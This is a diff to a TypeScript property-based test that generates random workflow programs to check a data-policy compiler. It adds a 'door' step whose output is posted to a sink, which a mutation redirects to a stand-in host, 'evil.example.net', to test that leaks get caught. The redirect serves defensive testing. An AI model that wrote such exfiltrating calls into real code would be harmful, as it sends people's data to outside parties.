@@ -38,6 +38,8 @@ type Deps = ReadonlySet<string>;
 interface Program {
   readonly fields: readonly Field[];
   readonly withItems: boolean;
+  /** The field whose category the project's flow `lookup` answers whoever starts it (a `door` reads it). */
+  readonly answered: Field;
   readonly steps: readonly Step[];
 }
 
@@ -65,7 +67,8 @@ type Step =
   | { kind: 'time'; value: Expr }
   | { kind: 'store'; value: Expr; container: number }
   | { kind: 'query'; container: number }
-  | { kind: 'parse'; value: Expr };
+  | { kind: 'parse'; value: Expr }
+  | { kind: 'door' };
 
 const expr = (fields: readonly Field[], inLoop: boolean): fc.Arbitrary<Expr> =>
   fc.letrec<{ expr: Expr }>((tie) => ({
@@ -93,6 +96,7 @@ const steps = (fields: readonly Field[], withItems: boolean, depth: number, inLo
     fc.record({ kind: fc.constant('store' as const), value: e, container: fc.nat(1) }),
     fc.record({ kind: fc.constant('query' as const), container: fc.nat(1) }),
     e.map((value): Step => ({ kind: 'parse', value })),
+    fc.constant<Step>({ kind: 'door' }),
     ...(answers ? [fc.constant<Step>({ kind: 'respond' })] : []),
   ];
   if (depth > 0) {
@@ -111,8 +115,8 @@ const steps = (fields: readonly Field[], withItems: boolean, depth: number, inLo
 };
 
 const program: fc.Arbitrary<Program> = fc
-  .record({ fields: fc.subarray(Object.keys(FIELDS) as Field[], { minLength: 1 }), withItems: fc.boolean() })
-  .chain(({ fields, withItems }) => steps(fields, withItems, 2, false).map((body) => ({ fields, withItems, steps: body })));
+  .record({ fields: fc.subarray(Object.keys(FIELDS) as Field[], { minLength: 1 }), withItems: fc.boolean(), answered: fc.constantFrom(...(Object.keys(FIELDS) as Field[])) })
+  .chain(({ fields, withItems, answered }) => steps(fields, withItems, 2, false).map((body) => ({ fields, withItems, answered, steps: body })));
 
 interface Rendered {
   readonly text: string;
@@ -136,7 +140,10 @@ interface Rendered {
  * counts too); a `parse` is `let v = parse json E as Row`, which fails on what E holds (Parse JSON
  * refuses what does not fit); a loop's body depends on every field of the items it runs over; a
  * `parallel`'s branches depend on what ends their siblings (a `fail`; a failing `int` stops its own
- * branch only), and what follows it on what stops any of them.
+ * branch only), and what follows it on what stops any of them; a `door` starts the project's flow
+ * `lookup` by another door than `call flow` (a `call workflow` of its workflow), and what it gets
+ * back holds what `lookup` answers: its own caller's field of the category `answered` names, which
+ * a sink after it sends on.
  */
 function render(p: Program, mutate: { purpose?: string; redirect?: number; rights?: boolean } = {}): Rendered {
   const lines: string[] = [];
@@ -170,6 +177,7 @@ function render(p: Program, mutate: { purpose?: string; redirect?: number; right
   const relayed = new Set<string>();
   const passed = new Set<string>();
   let calls = 0;
+  let doors = 0;
   /** By container, what its stores keep there and the conditions they run under (containers' names as deps resolved at the end). */
   const stored = new Map<number, Set<string>>();
   /** What stops the rest of a block (`stops`), and what of it ends the whole run (`ends`: a `fail`). */
@@ -318,6 +326,21 @@ function render(p: Program, mutate: { purpose?: string; redirect?: number; right
           lets.push({ name, deps: new Set([`${CONTAINER}${step.container}`]) });
           break;
         }
+        case 'door': {
+          const name = `v${named++}`;
+          lines.push(
+            `${indent}let ${name}answer = call workflow "/subscriptions/0/resourceGroups/gen/providers/Microsoft.Logic/workflows/lookup" body { k: "x" } returns Row`,
+            `${indent}let ${name} = ${name}answer.v`,
+          );
+          lets.push({ name, deps: new Set([`${ANSWER}${p.answered}`]) });
+          doors++;
+          // And a sink of it, so that what the door brings in is sent somewhere in every program that has one.
+          const index = sinks.length;
+          const host = mutate.redirect === index ? 'evil.example.net' : 'internal.example.com';
+          lines.push(`${indent}call http post "https://${host}/s${index}" body { v: ${name} }`);
+          sinks.push({ deps: new Set([`${ANSWER}${p.answered}`, ...around]), marker: `s${index}` });
+          break;
+        }
         case 'parse': {
           const value = text(step.value);
           const name = `v${named++}`;
@@ -381,7 +404,7 @@ function render(p: Program, mutate: { purpose?: string; redirect?: number; right
   for (const answer of answers) answer.deps = resolve(answer.deps);
   const relayedAll = resolve(relayed);
   const passedAll = resolve(passed);
-  const declared = [...new Set([...p.fields.map((f) => FIELDS[f]), ...(p.withItems ? Object.values(ITEM_FIELDS) : [])])];
+  const declared = [...new Set([...p.fields.map((f) => FIELDS[f]), ...(p.withItems ? Object.values(ITEM_FIELDS) : []), ...(doors > 0 ? [FIELDS[p.answered]] : [])])];
   const purpose = mutate.purpose ?? 'automation';
   const relay: string[] = [];
   if (calls > 0) {
@@ -404,6 +427,24 @@ function render(p: Program, mutate: { purpose?: string; redirect?: number; right
       '',
     );
   }
+  // The flow a `door` starts: it answers its caller's field, of the category `answered` names.
+  const lookup =
+    doors === 0
+      ? []
+      : [
+          'type Asked {',
+          `  k: string @${FIELDS[p.answered]}`,
+          '}',
+          '',
+          '@purpose(automation, "generated lookup")',
+          `@data(${FIELDS[p.answered]})`,
+          '@retain(30 days)',
+          'flow lookup {',
+          '  trigger http post body Asked',
+          '  respond 200 body { id: "x", v: trigger.body.k }',
+          '}',
+          '',
+        ];
   const source = [
     // What a query or a parse json reads: technical data about no one, so that only what the flow put there counts.
     'type Row {',
@@ -430,6 +471,7 @@ function render(p: Program, mutate: { purpose?: string; redirect?: number; right
     '}',
     '',
     ...relay,
+    ...lookup,
   ].join('\n');
   return { text: source, sinks, answers };
 }
@@ -439,12 +481,21 @@ const check = (text: string) => compileText('generated.jig', text, { policy, pro
 /** The start of a dependency on what one of the generated containers holds (`c0`, `c1`), resolved once every store is known. */
 const CONTAINER = 'container:';
 
+/** The start of a dependency on what the flow `lookup` answers: `answer.FIELD`, of that field's category. */
+const ANSWER = 'answer.';
+
 /** A dependency that stands for no data: a step that fails wherever it runs (a second `respond`). */
 const ALWAYS = 'always';
 
 /** The categories a set of dependencies stands for. */
 function categoriesOf(deps: Deps): string[] {
-  return [...deps].filter((dep) => dep !== ALWAYS).map((dep) => (dep.startsWith('items.') ? ITEM_FIELDS[dep.slice(6) as ItemField] : FIELDS[dep as Field]));
+  return [...deps]
+    .filter((dep) => dep !== ALWAYS)
+    .map((dep) =>
+      dep.startsWith('items.') ? ITEM_FIELDS[dep.slice(6) as ItemField]
+      : dep.startsWith(ANSWER) ? FIELDS[dep.slice(ANSWER.length) as Field]
+      : FIELDS[dep as Field],
+    );
 }
 
 describe('a flow that passes keeps the policy when its data goes elsewhere', () => {
